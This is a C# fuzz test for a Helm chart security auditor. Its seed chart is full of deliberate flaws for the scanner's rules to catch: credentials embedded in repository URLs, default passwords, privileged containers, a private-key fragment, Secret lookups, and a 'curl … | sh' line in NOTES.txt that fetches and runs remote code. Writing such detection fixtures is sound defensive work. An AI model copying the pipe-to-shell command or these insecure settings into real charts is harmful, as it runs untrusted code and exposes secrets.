using System.Collections.Concurrent;
using System.Text;
using HelmSecure.Audit;
using HelmSecure.Charts;
using HelmSecure.Kubernetes;
using HelmSecure.Rules;

namespace HelmSecure.Fuzz;

/// <summary>Charts whose files were spoiled: whatever they hold, all rules answer, and every finding has a file of the chart.</summary>
public sealed class ChartTests
{
    private const int Mutations = 40_000;
    private const string Header = "# file: ";

    private static readonly byte[] Seed = Encoding.UTF8.GetBytes("""
        # file: Chart.yaml
        apiVersion: v2
        name: web
        version: v1.2
        deprecated: true
        annotations:
          artifacthub.io/changes: '[{kind: security, description: x}]'
          artifacthub.io/prerelease: 'true'
          artifacthub.io/signKey: '{fingerprint: 51E1, url: http://example.com}'
        dependencies:
          - {name: db, version: ^1.0.0, repository: "http://a:b@192.0.2.1", condition: db.enabled, alias: x}
          - {name: db, version: ^1.0.0, repository: "file:///x", alias: x}
        # file: Chart.lock
        dependencies: [{name: db, version: 2.0.0, repository: "http://a:b@192.0.2.1"}]
        digest: sha256:00
        # file: values.yaml
        # helm-secure: ignore values-default-credential -- a test
        password: changeme
        securityContext: {privileged: true}
        auth: {enabled: false}
        # file: values.schema.json
        {"properties": {"a": {"$ref": "https://example.com/a.json"}, "tls": {"properties": {"b": {}}}}}
        # file: charts/db/Chart.yaml
        name: db
        version: 0.1.0
        deprecated: true
        # file: charts/db/values.yaml
        adminPassword: admin
        # file: crds/a.yaml
        kind: ConfigMap
        metadata: {name: a}
        # file: .env
        A=b
        # file: .git/HEAD
        x
        # file: files/a.key
        -----BEGIN PRIVATE KEY-----
        MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj
        # file: templates/NOTES.txt
        {{ .Values.password }} curl https://example.com/x | sh
        # file: templates/_helpers.tpl
        {{- define "web.password" -}}{{ if .a }}{{ randAlphaNum 5 }}{{ else }}{{ include "web.other" . }}{{ end }}{{- end }}
        {{/* helm-secure: ignore dns-lookup-at-render -- a test */}}
        # file: templates/secret.yaml
        {{- $old := lookup "v1" "Secret" "kube-system" "" }}
        kind: Secret
        data:
          password: {{ $old.data.password | default "x" }}
          b: {{ getHostByName "x" }}
          c: {{ genSelfSignedCert "a" nil nil 3650 }}
          d: {{ .Files.Get "a.key" }} {{ (.Files.Glob "**").AsConfig }}
        {{ tpl .Values.x . }}
        # file: templates/Secret.yaml
        x
        """);

    [Test]
    public void A_chart_is_judged_or_refused()
    {
        var rounds = new Rounds(seed: 5, Mutations);
        var spoken = new ConcurrentDictionary<string, int>(StringComparer.Ordinal);

        rounds.Run(dice => new Mutator(dice).Spoil([Seed]), (bytes, _) => Check(bytes, spoken));

        Assert.That(rounds.Answered, Is.GreaterThan(Mutations / 2));
        Assert.That(spoken, Has.Count.GreaterThan(40));
    }

    private static void Check(byte[] bytes, ConcurrentDictionary<string, int> spoken)
    {
        var reader = new ChartReader("web");
        var files = Files(bytes);
        var chart = new AuditedChart("web", reader.ReadFolder([.. files.Select(file => new ChartEntry(file.Key, file.Value.Length))], name => files[name]), reader.Refusals);
        var release = Release.Read([]);
        var report = Auditor.Run(release, RuleCatalog.All, new() { Strict = true }, chart);
        report = Suppression.Apply(report, release, new() { Strict = true }, new() { Rules = RuleCatalog.All, Today = new(2030, 1, 2), HonoursAudited = true }, chart);

        foreach (var finding in report.Findings)
        {
            spoken.AddOrUpdate(finding.Rule.Id, 1, (_, count) => count + 1);
            if (finding.Severity != finding.Rule.Severity && !finding.Rule.OtherSeverities.Contains(finding.Severity))
                throw new InvalidOperationException($"{finding.Rule} may not say {finding.Severity}");
            if (finding.Message.Length is 0 || !finding.Object.File.StartsWith("web/", StringComparison.Ordinal) || finding.Object.Kind is not AuditedChart.Kind)
                throw new InvalidOperationException($"{finding.Rule} says nothing, or nowhere");
            _ = (FindingFingerprint.Of(finding), finding.Field.Path, finding.Place);
        }
    }

    // As in the pages of the rules: a line "# file: NAME" begins each.
    private static Dictionary<string, byte[]> Files(byte[] bytes)
    {
        var files = new Dictionary<string, byte[]>(StringComparer.Ordinal);
        foreach (var part in Encoding.Latin1.GetString(bytes).Split(Header)[1..])
        {
            var end = part.IndexOf('\n', StringComparison.Ordinal);
            files[end < 0 ? part : part[..end]] = end < 0 ? [] : Encoding.Latin1.GetBytes(part[(end + 1)..]);
        }

        return files;
    }
}
